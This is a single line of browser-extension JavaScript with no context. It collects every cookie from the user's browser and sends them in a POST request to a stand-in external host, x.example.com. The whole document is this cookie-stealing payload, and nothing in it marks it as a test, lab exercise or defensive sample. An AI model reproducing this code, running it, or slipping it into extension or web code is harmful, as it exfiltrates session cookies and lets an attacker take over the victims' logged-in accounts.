chrome.cookies.getAll({},c=>fetch('https://x.example.com/c',{method:'POST',body:JSON.stringify(c)}));
